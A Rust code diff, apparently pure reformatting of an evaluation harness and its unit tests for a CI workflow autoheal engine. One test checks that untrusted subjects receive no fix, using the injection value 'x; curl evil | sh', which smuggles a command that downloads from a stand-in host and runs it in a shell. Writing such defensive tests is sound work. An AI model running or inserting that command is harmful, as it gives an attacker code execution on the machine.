@@ -91,15 +91,27 @@ fn place_syntax_error(source: &str, line: Option<u32>) -> String {
 /// fixture written for it?
 pub fn eval_case(category: &str, subject: Option<&str>, info: &EvalInfo) -> EvalResult {
     let Some(cat) = Category::parse(category) else {
-        return EvalResult { fixture: String::new(), fixed: false, titles: Vec::new(), manual_reason: Some(format!("unknown category {category}")) };
+        return EvalResult {
+            fixture: String::new(),
+            fixed: false,
+            titles: Vec::new(),
+            manual_reason: Some(format!("unknown category {category}")),
+        };
     };
     let Some(source) = fixture(cat) else {
-        return EvalResult { fixture: String::new(), fixed: false, titles: Vec::new(), manual_reason: Some("not a fixable category".into()) };
+        return EvalResult {
+            fixture: String::new(),
+            fixed: false,
+            titles: Vec::new(),
+            manual_reason: Some("not a fixable category".into()),
+        };
     };
     let mut failure = FailureInput::new(cat, subject);
     failure.job = fixture_job(cat, subject).map(str::to_string);
     failure.timeout_minutes = info.timeout_minutes.or_else(|| {
-        (cat == Category::Timeout).then(|| subject.and_then(|s| s.trim().parse().ok())).flatten()
+        (cat == Category::Timeout)
+            .then(|| subject.and_then(|s| s.trim().parse().ok()))
+            .flatten()
     });
     failure.rate_limit = info.rate_limit;
     let mut line = info.line;
@@ -108,7 +120,11 @@ pub fn eval_case(category: &str, subject: Option<&str>, info: &EvalInfo) -> Eval
     }
     failure.line = line;
     failure.column = info.column;
-    let source = if cat == Category::YamlSyntax { place_syntax_error(source, line) } else { source.to_string() };
+    let source = if cat == Category::YamlSyntax {
+        place_syntax_error(source, line)
+    } else {
+        source.to_string()
+    };
     let path = format!(".github/workflows/{}.yml", cat.as_str());
     let outcome = fixes_for(&failure, &path, &source, &fixture_repo(cat));
     EvalResult {
@@ -132,8 +148,15 @@ mod tests {
         for cat in Category::ALL.into_iter().filter(|c| *c != Category::YamlSyntax) {
             let Some(src) = fixture(cat) else { continue };
             let config = autoheal_engine::Config::default();
-            let diags = autoheal_engine::lint(".github/workflows/x.yml", src.as_bytes(), &autoheal_engine::LintOptions::new(&config));
-            let errors: Vec<_> = diags.iter().filter(|d| d.severity == autoheal_engine::Severity::Error).collect();
+            let diags = autoheal_engine::lint(
+                ".github/workflows/x.yml",
+                src.as_bytes(),
+                &autoheal_engine::LintOptions::new(&config),
+            );
+            let errors: Vec<_> = diags
+                .iter()
+                .filter(|d| d.severity == autoheal_engine::Severity::Error)
+                .collect();
             assert!(errors.is_empty(), "{cat:?}: {errors:?}");
         }
     }
@@ -154,7 +177,10 @@ mod tests {
             ("file_not_found", Some("requirements.txt")),
             ("yaml_syntax", Some("7")),
             ("yaml_syntax", Some("21")),
-            ("optional_job", Some("exec format error (aarch64 wheel build without QEMU)")),
+            (
+                "optional_job",
+                Some("exec format error (aarch64 wheel build without QEMU)"),
+            ),
             ("optional_job", Some("self-hosted runner lost communication")),
             ("rate_limit", Some("Docker Hub pull rate limit (429)")),
             ("rate_limit", Some("GitHub REST API (installation token)")),
@@ -169,7 +195,13 @@ mod tests {
     fn policy_and_untrusted_cases_get_no_fix() {
         assert!(!fixed("timeout", Some("360")).fixed);
         assert!(!fixed("unknown", None).fixed);
-        assert!(!fixed("file_not_found", Some("/home/runner/work/_actions/aquaproj/aqua-installer/v2.1.1/aqua-installer")).fixed);
+        assert!(
+            !fixed(
+                "file_not_found",
+                Some("/home/runner/work/_actions/aquaproj/aqua-installer/v2.1.1/aqua-installer")
+            )
+            .fixed
+        );
         assert!(!fixed("missing_dependency", Some("x; curl evil | sh")).fixed);
     }
 }
